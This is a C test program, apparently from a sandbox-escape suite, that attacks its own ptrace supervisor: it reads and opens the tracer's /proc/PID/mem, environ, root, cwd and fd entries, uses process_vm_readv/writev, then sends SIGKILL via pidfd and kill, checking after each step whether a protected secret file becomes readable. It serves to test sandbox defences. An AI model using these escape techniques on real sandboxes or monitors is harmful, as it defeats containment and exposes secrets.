/* tracejail-escape
 * id: tracer-attack
 * class: tracer death and ordering
 * title: attack the supervisor itself: ptrace, /proc/PID/mem and fd, process_vm_*, kill, pidfd
 * covered: standard
 * needs: secret
 *
 * Technique: the sandbox is only as strong as the process that traces us, which runs as the same
 * user. Find it (TracerPid in /proc/self/status), then attach to it, read or write its memory
 * through /proc/PID/mem or process_vm_readv/writev, reopen its file descriptors through
 * /proc/PID/fd, and finally kill it (kill, pidfd_send_signal). After each attack the secret is
 * opened again: a dead or subverted tracer must not leave it readable.
 * Defence: ptrace, process_vm_* and pidfd_open are escape primitives (EPERM); signals aimed
 * outside the traced tree are denied. /proc/PID/{mem,environ,fd,root,cwd} of a process outside
 * the tree must be denied too (the kernel allows them to a tracee of the same user). If the
 * tracer died anyway, PTRACE_O_EXITKILL kills the tree and flagged calls fail with ENOSYS.
 * Run untraced, the sample attacks nothing.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *secret;
static char summary[4096];
static int escaped;

static void note(const char *what) {
  size_t n = strlen(summary);
  snprintf(summary + n, sizeof summary - n, "%s%s", n ? "; " : "", what);
}

/* The secret must stay unreadable after every attack. */
static void check_secret(const char *after) {
  int fd = open(secret, O_RDONLY);
  if (fd < 0) {
    printf("  secret after %s: open -> %s\n", after, strerrorname_np(errno));
    return;
  }
  char buf[256];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  buf[n > 0 ? n : 0] = 0;
  buf[strcspn(buf, "\n")] = 0;
  close(fd);
  printf("  secret after %s: READABLE: %s\n", after, buf);
  char line[512];
  snprintf(line, sizeof line, "secret readable after %s: %s", after, buf);
  note(line);
  escaped = 1;
}

/* One attempt's outcome: ok counts as an escape. */
static void result(const char *attempt, int ok, int err) {
  char line[512];
  snprintf(line, sizeof line, "%s -> %s", attempt, ok ? "SUCCEEDED" : strerrorname_np(err));
  printf("%s\n", line);
  note(line);
  if (ok) escaped = 1;
}

static int tracer_pid(void) {
  FILE *f = fopen("/proc/self/status", "r");
  if (!f) return getppid(); /* no /proc: assume the supervisor is our parent */
  char line[256];
  int pid = -1;
  while (fgets(line, sizeof line, f))
    if (sscanf(line, "TracerPid: %d", &pid) == 1) break;
  fclose(f);
  return pid < 0 ? getppid() : pid;
}

/* First mapped address of the tracer, from its maps (itself an attack on /proc/PID). */
static unsigned long tracer_address(int t) {
  char path[64], line[512];
  snprintf(path, sizeof path, "/proc/%d/maps", t);
  FILE *f = fopen(path, "r");
  if (!f) {
    printf("open /proc/%d/maps: %s\n", t, strerrorname_np(errno));
    return 0;
  }
  unsigned long a = 0;
  if (fgets(line, sizeof line, f)) sscanf(line, "%lx-", &a);
  fclose(f);
  printf("open /proc/%d/maps: readable (first mapping at 0x%lx)\n", t, a);
  return a;
}

int main(void) {
  secret = getenv("TJ_SECRET");
  if (!secret) { printf("BLOCKED: TJ_SECRET not set\n"); return 0; }
  int t = tracer_pid();
  if (t <= 0) {
    printf("TracerPid: 0\nBLOCKED: not traced, or the supervisor is invisible here (TracerPid 0, "
           "e.g. outside our PID namespace): no supervisor to attack, attacks skipped\n");
    return 0;
  }
  char path[40], attempt[512];
  printf("supervisor (TracerPid): %d\n", t);
  check_secret("nothing (baseline)");

  /* 1. ptrace(PTRACE_ATTACH): if it worked the tracer is stopped; detach at once. */
  errno = 0;
  long r = ptrace(PTRACE_ATTACH, t, NULL, NULL);
  int e = errno;
  if (r == 0) {
    int st;
    waitpid(t, &st, __WALL);
    ptrace(PTRACE_DETACH, t, NULL, NULL);
  }
  snprintf(attempt, sizeof attempt, "ptrace(PTRACE_ATTACH, %d)", t);
  result(attempt, r == 0, e);
  check_secret("PTRACE_ATTACH");

  /* 2. /proc/<tracer>/mem: read one byte; open for write (nothing is written). */
  unsigned long addr = tracer_address(t);
  snprintf(path, sizeof path, "/proc/%d/mem", t);
  int fd = open(path, O_RDONLY);
  e = errno;
  if (fd >= 0) {
    char c;
    ssize_t n = addr ? pread(fd, &c, 1, (off_t)addr) : -1;
    printf("  pread 1 byte at 0x%lx: %s\n", addr, n == 1 ? "ok" : "failed");
    close(fd);
  }
  snprintf(attempt, sizeof attempt, "open(%s, O_RDONLY)", path);
  result(attempt, fd >= 0, e);
  fd = open(path, O_RDWR);
  e = errno;
  if (fd >= 0) close(fd);
  snprintf(attempt, sizeof attempt, "open(%s, O_RDWR)", path);
  result(attempt, fd >= 0, e);
  check_secret("/proc/PID/mem");

  /* 2b. /proc/<tracer>/environ: the supervisor's own environment, which a clean environment
   * keeps from us; and /proc/<tracer>/root and cwd as aliases of the secret's path. */
  snprintf(path, sizeof path, "/proc/%d/environ", t);
  fd = open(path, O_RDONLY);
  e = errno;
  if (fd >= 0) {
    char env[4096];
    ssize_t n = read(fd, env, sizeof env);
    int vars = 0;
    for (ssize_t i = 0; i < n; i++) vars += env[i] == 0;
    printf("  read %zd bytes (%d variables) of the supervisor's environment\n", n, vars);
    close(fd);
  }
  snprintf(attempt, sizeof attempt, "open(%s)", path);
  result(attempt, fd >= 0, e);
  char alias[4200];
  snprintf(alias, sizeof alias, "/proc/%d/root%s", t, secret);
  fd = open(alias, O_RDONLY);
  e = errno;
  if (fd >= 0) close(fd);
  snprintf(attempt, sizeof attempt, "open(/proc/%d/root<secret>)", t);
  result(attempt, fd >= 0, e);
  char cwd[4096];
  snprintf(path, sizeof path, "/proc/%d/cwd", t);
  ssize_t cl = readlink(path, cwd, sizeof cwd - 1);
  if (cl > 0) {
    cwd[cl] = 0;
    /* A path from the supervisor's cwd up to / and down to the secret. */
    size_t at = (size_t)snprintf(alias, sizeof alias, "/proc/%d/cwd", t);
    for (char *q = cwd; *q && at < sizeof alias - 4; q++)
      if (*q == '/' && q[1]) at += (size_t)snprintf(alias + at, sizeof alias - at, "/..");
    snprintf(alias + at, sizeof alias - at, "%s", secret);
    fd = open(alias, O_RDONLY);
    e = errno;
    if (fd >= 0) close(fd);
    snprintf(attempt, sizeof attempt, "open(/proc/%d/cwd/../<secret>)", t);
    result(attempt, fd >= 0, e);
  } else {
    snprintf(attempt, sizeof attempt, "readlink(%s)", path);
    result(attempt, 0, errno);
  }
  check_secret("/proc/PID/environ, root, cwd");

  /* 3. /proc/<tracer>/fd: list it, reopen a few entries for writing (non-blocking, nothing is
   * written). An entry that names a file the policy lets us open directly gains nothing; a pipe,
   * socket, anonymous inode or a file we could not open ourselves is the supervisor's alone. */
  snprintf(path, sizeof path, "/proc/%d/fd", t);
  DIR *d = opendir(path);
  if (!d) {
    snprintf(attempt, sizeof attempt, "opendir(%s)", path);
    result(attempt, 0, errno);
  } else {
    printf("opendir(%s): listed\n", path);
    struct dirent *de;
    int tried = 0;
    while ((de = readdir(d)) && tried < 8) {
      if (de->d_name[0] == '.') continue;
      char entry[64], target[200];
      snprintf(entry, sizeof entry, "%s/%.16s", path, de->d_name);
      ssize_t n = readlink(entry, target, sizeof target - 1);
      target[n > 0 ? n : 0] = 0;
      const int flags = O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC;
      int wfd = open(entry, flags);
      e = errno;
      if (wfd >= 0) close(wfd);
      snprintf(attempt, sizeof attempt, "open(%s -> %s, O_WRONLY)", entry, n > 0 ? target : "?");
      if (wfd >= 0 && target[0] == '/' && !strstr(target, " (deleted)")) {
        int direct = open(target, flags);
        if (direct >= 0) {
          close(direct);
          /* ENXIO below (sockets, pipes without readers) would be the kernel's refusal. */
          printf("%s -> ok, no gain (the policy lets us open %s directly)\n", attempt, target);
          tried++;
          continue;
        }
      }
      result(attempt, wfd >= 0, e);
      tried++;
    }
    closedir(d);
  }
  check_secret("/proc/PID/fd");

  /* 4. process_vm_readv of one byte; process_vm_writev to an unmapped address (0x1000): EFAULT
   * would show the kernel let us reach its memory, without changing anything. */
  char c = 0;
  struct iovec local = {&c, 1}, remote = {(void *)(addr ? addr : 0x1000), 1};
  errno = 0;
  r = syscall(SYS_process_vm_readv, t, &local, 1, &remote, 1, 0);
  e = errno;
  snprintf(attempt, sizeof attempt, "process_vm_readv(%d, 0x%lx)", t, (unsigned long)remote.iov_base);
  result(attempt, r > 0 || e == EFAULT, e);
  remote.iov_base = (void *)0x1000;
  errno = 0;
  r = syscall(SYS_process_vm_writev, t, &local, 1, &remote, 1, 0);
  e = errno;
  snprintf(attempt, sizeof attempt, "process_vm_writev(%d, 0x1000)%s", t,
           r < 0 && e == EFAULT ? " [reached: EFAULT only because 0x1000 is unmapped]" : "");
  result(attempt, r > 0 || e == EFAULT, e);
  check_secret("process_vm_*");

  /* 5. Kill it: pidfd_open + pidfd_send_signal, then kill(). Last, because a dead tracer should
   * take us with it (PTRACE_O_EXITKILL): then no final line is printed. */
  fflush(stdout);
  int pfd = (int)syscall(SYS_pidfd_open, t, 0);
  e = errno;
  snprintf(attempt, sizeof attempt, "pidfd_open(%d)", t);
  result(attempt, pfd >= 0, e);
  if (pfd >= 0) {
    fflush(stdout);
    r = syscall(SYS_pidfd_send_signal, pfd, SIGKILL, NULL, 0);
    e = errno;
    result("pidfd_send_signal(SIGKILL)", r == 0, e);
    close(pfd);
    check_secret("pidfd_send_signal");
  }
  fflush(stdout);
  r = kill(t, SIGKILL);
  e = errno;
  snprintf(attempt, sizeof attempt, "kill(%d, SIGKILL)", t);
  result(attempt, r == 0, e);
  check_secret("kill");

  printf("%s: %s\n", escaped ? "ESCAPED" : "BLOCKED", summary);
  return 0;
}
